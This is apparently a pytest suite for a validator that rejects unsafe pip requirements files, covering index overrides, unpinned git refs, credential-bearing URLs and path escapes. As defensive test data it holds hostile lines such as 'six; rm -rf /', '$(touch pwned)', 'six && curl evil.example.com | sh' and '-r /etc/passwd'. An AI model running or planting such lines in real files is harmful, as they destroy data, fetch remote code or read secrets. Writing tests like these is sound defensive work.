"""Hostile corpus, packages.pip_requirements: every way a requirements file can ask for more than a package
list, each refused by `toolkit validate` with exit 2, the requirement file's file:line, the profile field
that led there (and where it is), what to do, no traceback, no secret and no raw control character echoed.
What pip users ordinarily write (comments, -r/-c, extras, markers, hashes, pinned URLs) still passes."""

from __future__ import annotations

import os
import re

import pytest

from toolkit.cli import main

SECRET = "S3cr3t-Rq7"
SHA = "0123456789abcdef0123456789abcdef01234567"
HASH = "sha256:" + "a" * 64
PROFILE = "name: p\nos: {distro: debian, version: \"12\"}\npackages:\n  pip_requirements: [requirements.txt]\n"

# id: ({file: text}, file the error is in, line, message fragment)
CASES = {
    "index-url": ({"requirements.txt": "six\n-i https://idx.example.com/simple\n"}, "requirements.txt", 2,
                  "network.pip.index_url"),
    "index-url-long": ({"requirements.txt": "--index-url=https://idx.example.com/simple\n"}, "requirements.txt", 1,
                       "network.pip"),
    "extra-index-url": ({"requirements.txt": "# c\n\n--extra-index-url https://x.example.com/simple\n"},
                        "requirements.txt", 3, "not taken from requirement files"),
    "index-url-with-login": ({"requirements.txt": f"-i https://me:{SECRET}@idx.example.com/simple\n"},
                             "requirements.txt", 1, "network.pip"),
    "find-links": ({"requirements.txt": "-f ./wheels\n"}, "requirements.txt", 1, "network.wheelhouse"),
    "no-index": ({"requirements.txt": "--no-index\n"}, "requirements.txt", 1, "network.offline"),
    "trusted-host": ({"requirements.txt": "--trusted-host pypi.org\n"}, "requirements.txt", 1, "TLS"),
    "editable-local": ({"requirements.txt": "-e .\n"}, "requirements.txt", 1, "pip wheel"),
    "editable-git": ({"requirements.txt": f"-e git+https://github.com/a/b@{SHA}#egg=b\n"}, "requirements.txt", 1,
                     "drop the -e"),
    "local-folder": ({"requirements.txt": "./src/mypkg\n"}, "requirements.txt", 1, "local path"),
    "local-absolute": ({"requirements.txt": "/srv/wheels/x-1.0-py3-none-any.whl\n"}, "requirements.txt", 1,
                       "local path"),
    "local-wheel-name": ({"requirements.txt": "x-1.0-py3-none-any.whl\n"}, "requirements.txt", 1, "local path"),
    "file-url": ({"requirements.txt": "file:///tmp/x-1.0.tar.gz\n"}, "requirements.txt", 1, "no project name"),
    "named-file-url": ({"requirements.txt": "x @ file:///tmp/x-1.0.tar.gz\n"}, "requirements.txt", 1,
                       "local file"),
    "http-url": ({"requirements.txt": "x @ http://files.example.com/x-1.0.tar.gz\n"}, "requirements.txt", 1,
                 "only https"),
    "url-credentials": ({"requirements.txt": f"x @ https://me:{SECRET}@files.example.com/x.whl\n"},
                        "requirements.txt", 1, "holds credentials"),
    "url-token-user": ({"requirements.txt": f"x @ https://{SECRET}@files.example.com/x.whl\n"}, "requirements.txt",
                       1, "holds credentials"),
    "url-secret-query": ({"requirements.txt": f"x @ https://files.example.com/x.whl?access_token={SECRET}\n"},
                         "requirements.txt", 1, "looks like a secret"),
    "url-signed-query": ({"requirements.txt": f"x @ https://bucket.example.com/x.whl?X-Amz-Signature={SECRET}\n"},
                         "requirements.txt", 1, "looks like a secret"),
    "url-shell": ({"requirements.txt": "x @ https://files.example.com/$(id).whl\n"}, "requirements.txt", 1,
                  "characters toolkit does not take"),
    "url-fragment": ({"requirements.txt": "x @ https://files.example.com/x.whl#evil=1\n"}, "requirements.txt", 1,
                     "fragment"),
    "git-branch": ({"requirements.txt": "b @ git+https://github.com/a/b@main\n"}, "requirements.txt", 1,
                   "not pinned to a commit ('main' can move)"),
    "git-tag-short-sha": ({"requirements.txt": "b @ git+https://github.com/a/b@1a2b3c4\n"}, "requirements.txt", 1,
                          "not pinned"),
    "git-no-ref": ({"requirements.txt": "b @ git+https://github.com/a/b.git\n"}, "requirements.txt", 1,
                   "40-character commit"),
    "git-ssh": ({"requirements.txt": f"b @ git+ssh://git@github.com/a/b@{SHA}\n"}, "requirements.txt", 1,
                "only https"),
    "git-http": ({"requirements.txt": f"b @ git+http://github.com/a/b@{SHA}\n"}, "requirements.txt", 1,
                 "only https"),
    "hg": ({"requirements.txt": f"b @ hg+https://hg.example.com/b@{SHA}\n"}, "requirements.txt", 1,
           "is not taken"),
    "git-credentials": ({"requirements.txt": f"b @ git+https://me:{SECRET}@github.com/a/b@{SHA}\n"},
                        "requirements.txt", 1, "holds credentials"),
    "git-no-name": ({"requirements.txt": f"git+https://github.com/a/b@{SHA}\n"}, "requirements.txt", 1,
                    "no project name"),
    "bare-url": ({"requirements.txt": "https://files.example.com/x-1.0.tar.gz\n"}, "requirements.txt", 1,
                 "NAME @ URL"),
    "env-expansion": ({"requirements.txt": "x @ https://${HOST}/x.whl\n"}, "requirements.txt", 1,
                      "expanded by pip"),
    "install-option": ({"requirements.txt": "x==1.0 --install-option=--prefix=/tmp\n"}, "requirements.txt", 1,
                       "build options"),
    "config-settings": ({"requirements.txt": "x==1.0 --config-settings=editable_mode=compat\n"},
                        "requirements.txt", 1, "build options"),
    "hash-md5": ({"requirements.txt": "x==1.0 --hash=md5:0123456789abcdef0123456789abcdef\n"},
                 "requirements.txt", 1, "sha256, sha384 or sha512"),
    "hash-short": ({"requirements.txt": "x==1.0 \\\n    --hash=sha256:abc\n"}, "requirements.txt", 1, "full digest"),
    "unknown-option": ({"requirements.txt": "--use-feature=fast-deps\n"}, "requirements.txt", 1, "not supported"),
    "binary-shell": ({"requirements.txt": "--only-binary $(id)\n"}, "requirements.txt", 1, ":all:"),
    "pre-with-value": ({"requirements.txt": "--pre=yes\n"}, "requirements.txt", 1, "takes no value"),
    "two-options": ({"requirements.txt": "--pre --prefer-binary\n"}, "requirements.txt", 1, "one option per line"),
    "pip-refuses": ({"requirements.txt": "numpy~=1\n"}, "requirements.txt", 1, "pip would refuse"),
    "wildcard-ordered": ({"requirements.txt": "six\n\nnumpy>=1.*\n"}, "requirements.txt", 3, "pip would refuse"),
    "command-substitution": ({"requirements.txt": "$(touch pwned)\n"}, "requirements.txt", 1, "pip would refuse"),
    "backticks": ({"requirements.txt": "`id`\n"}, "requirements.txt", 1, "pip would refuse"),
    "marker-shell": ({"requirements.txt": "six; rm -rf /\n"}, "requirements.txt", 1, "is not an option"),
    "marker-shell-no-dash": ({"requirements.txt": "six; touch /tmp/pwned\n"}, "requirements.txt", 1,
                             "pip would refuse"),
    "semicolon-chain": ({"requirements.txt": "six && curl evil.example.com | sh\n"}, "requirements.txt", 1,
                        "pip would refuse"),
    "bidi": ({"requirements.txt": "six\nnumpy\u202e==1\n"}, "requirements.txt", 2, "U+202E"),
    "bidi-in-comment": ({"requirements.txt": "six  # \u2066hidden\u2069\n"}, "requirements.txt", 1, "U+2066"),
    "zero-width": ({"requirements.txt": "nu\u200bmpy\n"}, "requirements.txt", 1, "U+200B"),
    "escape": ({"requirements.txt": "six\x1b[31m\n"}, "requirements.txt", 1, "U+001B"),
    "nul": ({"requirements.txt": "six\x00\n"}, "requirements.txt", 1, "U+0000"),
    "not-utf8": ({"requirements.txt": b"six\nna\xefve\n"}, "requirements.txt", 2, "not UTF-8"),
    "constraint-extras": ({"requirements.txt": "six\n-c c.txt\n", "c.txt": "requests[socks]==2.32.3\n"}, "c.txt",
                          1, "cannot have extras"),
    "require-in-constraints": ({"requirements.txt": "six\n-c c.txt\n", "c.txt": "-r requirements.txt\n"}, "c.txt",
                               1, "-r inside a constraints file"),
    "include-absolute": ({"requirements.txt": "-r /etc/passwd\n"}, "requirements.txt", 1, "no absolute paths"),
    "include-home": ({"requirements.txt": "-r ~/.netrc\n"}, "requirements.txt", 1, "no absolute paths"),
    "include-url": ({"requirements.txt": "-r https://example.com/r.txt\n"}, "requirements.txt", 1, "URLs"),
    "include-escapes": ({"requirements.txt": "-r ../outside.txt\n"}, "requirements.txt", 1, "leads outside"),
    "include-escapes-deeper": ({"requirements.txt": "-r sub/a.txt\n", "sub/a.txt": "-r ../../outside.txt\n"},
                               "sub/a.txt", 1, "leads outside"),
    "include-missing": ({"requirements.txt": "six\n-r nope.txt\n"}, "nope.txt", None, "not found"),
    "include-folder": ({"requirements.txt": "-r sub\n", "sub/x.txt": "six\n"}, "sub", None, "a directory"),
    "include-cycle": ({"requirements.txt": "-r b.txt\n", "b.txt": "-c requirements.txt\n"}, "b.txt", 1,
                      "include each other"),
    "include-self": ({"requirements.txt": "six\n--requirement=requirements.txt\n"}, "requirements.txt", 2,
                     "include each other"),
    "include-empty": ({"requirements.txt": "-r\n"}, "requirements.txt", 1, "needs a file name"),
    "framework-owned": ({"requirements.txt": "six\ntorch==2.0.0\n",
                         "p.yaml": PROFILE + "frameworks:\n  pytorch: {version: \"2.7.1\"}\n"},
                        "requirements.txt", 2, "conflicts with frameworks.pytorch"),
    "framework-local-version": ({"requirements.txt": "torch==2.7.1+cu126\n",
                                 "p.yaml": PROFILE + "frameworks:\n  pytorch: {version: \"2.7.1\"}\n"},
                                "requirements.txt", 1, "local version"),
    "git-without-git": ({"requirements.txt": f"b @ git+https://github.com/a/b@{SHA}\n",
                         "p.yaml": PROFILE + "git: {enabled: false}\n"}, "requirements.txt", 1, "git.enabled"),
}

# Problems about the profile's own list: at the profile's line.
PROFILE_CASES = {
    "missing-file": ("packages:\n  pip_requirements: [nope.txt]\n", 4, "packages.pip_requirements.0", "not found"),
    "shell-in-path": ("packages:\n  pip_requirements: [\"req$(id).txt\"]\n", 4, "packages.pip_requirements.0",
                      "expected a file path"),
    "listed-twice": ("packages:\n  pip_requirements:\n    - requirements.txt\n    - requirements.txt\n", 6,
                     "packages.pip_requirements.1", "duplicate requirements file"),
    "not-a-list": ("packages:\n  pip_requirements: requirements.txt\n", 4, "packages.pip_requirements",
                   "valid list"),
    "a-device": ("packages:\n  pip_requirements: [/dev/zero]\n", 4, "packages.pip_requirements.0",
                 "character device"),
}


def run(argv, capsys):
    with pytest.raises(SystemExit) as exc:
        main(argv)
    captured = capsys.readouterr()
    return exc.value.code, captured.out + captured.err


def write(tmp_path, files: dict) -> None:
    files = {"p.yaml": PROFILE, **files}
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(text, bytes):
            path.write_bytes(text)
        else:
            path.write_text(text, encoding="utf-8")


def clean(output: str) -> None:
    assert "Traceback" not in output
    assert SECRET not in output
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028\u202e\u2066\u2069]", output), repr(output)


@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_refused_at_the_requirement_files_line(case, tmp_path, capsys, monkeypatch):
    files, where, line, fragment = CASES[case]
    write(tmp_path, files)
    monkeypatch.chdir(tmp_path)
    code, output = run(["validate", "p.yaml"], capsys)
    assert code == 2, output
    at = f"{re.escape(where)}:{line}(:\\d+)?" if line else re.escape(where)
    assert re.search(rf"^  {at}: packages\.pip_requirements\.0: ", output, re.M), output
    assert fragment in output, output
    assert "packages.pip_requirements.0 is at p.yaml:4" in output, output
    clean(output)


@pytest.mark.parametrize("case", list(PROFILE_CASES), ids=list(PROFILE_CASES))
def test_refused_at_the_profile_field(case, tmp_path, capsys, monkeypatch):
    text, line, field, fragment = PROFILE_CASES[case]
    write(tmp_path, {"p.yaml": "name: p\nos: {distro: debian, version: \"12\"}\n" + text, "requirements.txt": "six\n"})
    monkeypatch.chdir(tmp_path)
    code, output = run(["validate", "p.yaml"], capsys)
    assert code == 2, output
    assert re.search(rf"^  p\.yaml:{line}:\d+: {re.escape(field)}: ", output, re.M), output
    assert fragment in output, output
    clean(output)


def test_a_symlink_inside_the_folder_cannot_lead_outside(tmp_path, capsys, monkeypatch):
    (tmp_path / "outside.txt").write_text("six\n")
    write(tmp_path / "proj", {"requirements.txt": "-r link.txt\n"})
    os.symlink(tmp_path / "outside.txt", tmp_path / "proj" / "link.txt")
    monkeypatch.chdir(tmp_path / "proj")
    code, output = run(["validate", "p.yaml"], capsys)
    assert code == 2 and "leads outside" in output and re.search(r"^  requirements\.txt:1: ", output, re.M), output


def test_every_bad_line_is_reported_at_once(tmp_path, capsys, monkeypatch):
    write(tmp_path, {"requirements.txt": "-i https://x.example.com/simple\nsix\n-e .\nx @ http://h/x.whl\n"})
    monkeypatch.chdir(tmp_path)
    code, output = run(["validate", "p.yaml"], capsys)
    assert code == 2
    assert [int(n) for n in re.findall(r"^  requirements\.txt:(\d+): ", output, re.M)] == [1, 3, 4], output


ACCEPTED = {
    "ordinary": "# pinned for the team\nnumpy>=1.26,<3  # the data stack\npandas==2.2.*\n\n",
    "extras-markers": "requests[socks,security]>=2.31 ; python_version >= \"3.8\"\ntomli; python_version < \"3.11\"\n",
    "hashes": f"six==1.16.0 \\\n    --hash={HASH} \\\n    --hash=sha512:{'b' * 128}\n",
    "direct-url": "six @ https://files.pythonhosted.org/packages/d9/5a/six-1.16.0-py2.py3-none-any.whl#sha256="
                  + "8" * 64 + "\n",
    "git-pinned": f"pipdeptree @ git+https://github.com/tox-dev/pipdeptree@{SHA}\n",
    "git-egg": f"git+https://github.com/tox-dev/pipdeptree@{SHA}#egg=pipdeptree&subdirectory=src\n",
    "options": "--pre\n--prefer-binary\n--only-binary=:all:\n--no-binary numpy,scipy\n--require-hashes\nsix\n",
    "includes": "-r sub/base.txt\n-c constraints.txt\nsix\n",
    "crlf": "six\r\nidna\r\n",
}


@pytest.mark.parametrize("case", list(ACCEPTED), ids=list(ACCEPTED))
def test_what_pip_users_write_still_passes(case, tmp_path, capsys, monkeypatch):
    write(tmp_path, {"requirements.txt": ACCEPTED[case], "sub/base.txt": "idna\n-r more.txt\n",
                     "sub/more.txt": "certifi\n", "constraints.txt": "urllib3<3\n"})
    monkeypatch.chdir(tmp_path)
    code, output = run(["validate", "p.yaml"], capsys)
    assert code in (0, None), output
